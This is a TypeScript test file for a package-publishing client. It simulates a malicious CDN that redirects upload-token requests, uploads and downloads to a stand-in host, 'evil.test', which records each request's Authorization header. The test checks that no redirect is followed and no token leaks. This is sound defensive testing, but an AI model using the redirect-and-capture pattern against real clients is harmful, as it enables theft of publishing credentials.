// SPDX-License-Identifier: Apache-2.0
import assert from "node:assert/strict";
import {
  attack,
  buildWheel,
  download,
  type Interceptor,
  sampleWorld,
  toyProject,
  whileLying,
} from "@countermark/testkit";

attack(
  {
    by: "cdn",
    tries: "redirects uploads, token requests and downloads to a host of its own",
    stoppedBy: "the client follows no redirect: tokens go to the host that was named, and to no other",
    noticedBy: "the publisher, and whoever installs",
    when: "at the first redirect",
  },
  async (t) => {
    const world = await sampleWorld(t);
    const stolen: string[] = [];
    world.network.attach("evil.test", {
      fetch: (request) => {
        stolen.push(`${request.url} ${request.headers.get("authorization")}`);
        return new Response("thank you");
      },
    });
    /** A redirect, followed as `fetch` follows it unless it was told not to. */
    const redirecting =
      (part: string): Interceptor =>
      async (request, answer) => {
        const { pathname } = new URL(request.url);
        if (!pathname.startsWith(part)) return await answer(request);
        const location = `https://evil.test${pathname}`;
        if (request.redirect === "follow")
          return await world.network.fetch(location, { headers: request.headers });
        return new Response(null, { status: 307, headers: { location } });
      };
    for (const [claim, part] of [
      ["the request for an upload token", "/_/oidc/mint-token"],
      ["the upload", "/legacy/"],
    ] as const) {
      await t.test(`${claim}: not followed`, async () => {
        const wheel = buildWheel(toyProject("sampleproject", "1.1.0"));
        const job = { ...world.claims, runId: part };
        const run = await whileLying(world.network, "index.test", redirecting(part), () =>
          world.publish({ ...job, runId: String(part.length) }, [wheel]),
        );
        assert.notEqual(run.status, 0, run.output);
        assert.deepEqual(stolen, []);
        t.saw("the publisher", run.output, /^countermark: /);
      });
    }
    await t.test("a download: not followed", async () => {
      const run = await whileLying(world.network, "index.test", redirecting("/files/"), () =>
        download(world.createClient(), "sampleproject"),
      );
      assert.notEqual(run.status, 0, run.output);
      assert.deepEqual(stolen, []);
      t.saw("the user", run.output, /\[http-status\]/);
    });
  },
);
